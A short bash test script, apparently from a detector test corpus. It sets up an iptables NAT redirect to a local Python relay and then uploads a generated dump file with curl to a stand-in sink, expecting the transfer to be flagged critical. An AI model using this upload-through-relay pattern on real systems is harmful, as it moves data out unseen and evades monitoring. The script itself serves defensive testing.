#!/bin/bash
# B-proxy-redirect: a transparent sidecar: the connection is redirected to a local relay.
# flow: curl connects to the sink's address but reaches the relay (iptables REDIRECT), which connects out.
# tools: iptables python3 curl
# expect: sent counted port critical
# set: fast
. "$CORPUS/lib.sh"
mkdump
sink http
rule="OUTPUT -p tcp -d $SINK --dport $PORT -m mark ! --mark 77 -j REDIRECT --to-ports $((PORT + 1))"
iptables -t nat -A $rule 2>/dev/null || skip "this kernel has no NAT"
undo "iptables -t nat -D $rule"
bg python3 "$CORPUS/relay.py" 127.0.0.1 $((PORT + 1)) "$SINK" "$PORT" 77
until_true serves $((PORT + 1))
curl -sS -T "$D" "http://$SINK:$PORT/up"
sunk
